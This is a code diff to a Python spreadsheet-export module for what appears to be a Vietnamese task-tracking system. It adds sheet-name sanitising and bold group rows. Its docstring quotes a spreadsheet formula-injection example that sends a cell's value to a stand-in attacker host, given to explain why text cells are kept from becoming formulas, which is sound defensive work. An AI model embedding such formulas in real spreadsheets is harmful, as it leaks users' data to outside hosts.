@@ -6,7 +6,8 @@ Every text is written as text: what officials type (a task's title, a report's p
 may begin with "=" and would otherwise become a live formula in the leaders' spreadsheet
 (``=HYPERLINK("http://evil.example/?"&A1, "Xem")``)."""
 
-from collections.abc import Iterable, Sequence
+import re
+from collections.abc import Collection, Iterable, Sequence
 from dataclasses import dataclass
 from datetime import date
 from decimal import Decimal
@@ -52,6 +53,15 @@ class Column:
     kind: str = "text"
 
 
+# Characters a sheet's name may not hold (a search's words can bring any of them).
+SHEET_NAME_REFUSED = re.compile(r"[\\/?*\[\]:]")
+
+
+def sheet_name(title: str) -> str:
+    """``title`` as a sheet's name: without the characters Excel refuses, at most 31 long."""
+    return SHEET_NAME_REFUSED.sub(" ", title)[:31].strip() or "Sheet"
+
+
 FORMATS = {"percent": '0"%"', "number": "#,##0.##"}
 HEADING_ROW = 3  # row 1: the title, row 2: blank, row 3: the headings
 
@@ -63,14 +73,16 @@ def workbook_response(
     headings: Sequence[tuple[str, int] | Column],
     rows: Iterable[Sequence[Any]],
     day: date | None = None,
+    strong: Collection[int] = (),
 ) -> HttpResponse:
     """An .xlsx download ready to print: a title row ("DANH SÁCH NHIỆM VỤ QUÁ HẠN tính đến
     ngày 24/11/2026"), the headings (repeated on every printed page, frozen on screen), A4
-    landscape fitted to the page's width; ``headings`` are columns or (text, width) pairs."""
+    landscape fitted to the page's width; ``headings`` are columns or (text, width) pairs, and
+    the rows numbered in ``strong`` (from 0) are bold: a group's line above its tasks."""
     columns = [h if isinstance(h, Column) else Column(h[0], h[1]) for h in headings]
     book = Workbook()
     sheet = book.active
-    sheet.title = title[:31]
+    sheet.title = sheet_name(title)
     heading = title.upper() + (f" tính đến ngày {day:%d/%m/%Y}" if day else "")
     sheet.append([heading])
     sheet.append([])
@@ -88,8 +100,10 @@ def workbook_response(
     for row in rows:
         sheet.append(list(row))
     keep_text(sheet)
-    for row in sheet.iter_rows(min_row=HEADING_ROW + 1):
+    for index, row in enumerate(sheet.iter_rows(min_row=HEADING_ROW + 1)):
         for column, cell in zip(columns, row, strict=False):
+            if index in strong:
+                cell.font = Font(bold=True)
             if isinstance(cell.value, date):
                 cell.number_format = "DD/MM/YYYY"
             elif column.kind in FORMATS and isinstance(cell.value, int | float | Decimal):
